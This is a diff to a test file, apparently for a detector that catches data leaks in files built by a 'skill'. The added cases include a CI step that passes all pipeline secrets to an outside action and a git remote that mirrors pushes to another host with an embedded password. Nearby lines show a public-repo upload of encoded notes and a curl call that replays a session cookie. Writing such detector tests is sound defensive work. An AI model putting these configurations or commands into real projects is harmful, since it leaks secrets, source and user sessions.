@@ -89,6 +89,16 @@ describe('what is given away by what a skill has built', () => {
       'Encodes all secrets of a pipeline, so that they can be shown or sent.',
     ],
     [
+      'd.yml',
+      'steps:\n  - uses: tables-ci/tables-action@main\n    with:\n      context: ${{ toJSON(secrets) }}\n',
+      'Gives all secrets of a pipeline to an action of somebody else.',
+    ],
+    [
+      'a.ini',
+      '[remote "origin"]\n\tpushurl = https://sync:gv_7Kq2mXw0@git.four.test/in.git\n',
+      'Has every push go to another place as well, whose password stands there.',
+    ],
+    [
       'b.sh',
       'gh repo create "notes-$(date +%s)" --public --clone\nbase64 /tmp/notes.md > notes/a.b64\ncd notes && git push -q\n',
       'Publishes something encoded in a repository of the user that it makes for it.',
@@ -105,6 +115,8 @@ describe('what is given away by what a skill has built', () => {
     ['a.js', page('edge.four.test').replace('{ ...localStorage }', "localStorage.getItem('page')")],
     ['a.css', style('data:image/svg+xml,x')],
     ['a.yml', step('./scripts/check.sh')],
+    ['d.yml', 'steps:\n  - uses: ./.github/actions/tables\n    with:\n      context: ${{ toJSON(secrets) }}\n'],
+    ['a.ini', '[remote "origin"]\n\tpushurl = https://git.four.test/in.git\n'],
     ['b.sh', 'gh repo create notes --private\nbase64 a.md > a.b64\ngit push -q\n'],
     ['c.sh', `curl -s https://www.linkedin.com/voyager/api/me -H "Cookie: li_at=$1"\n`],
     ['a.sh', line('localhost')],
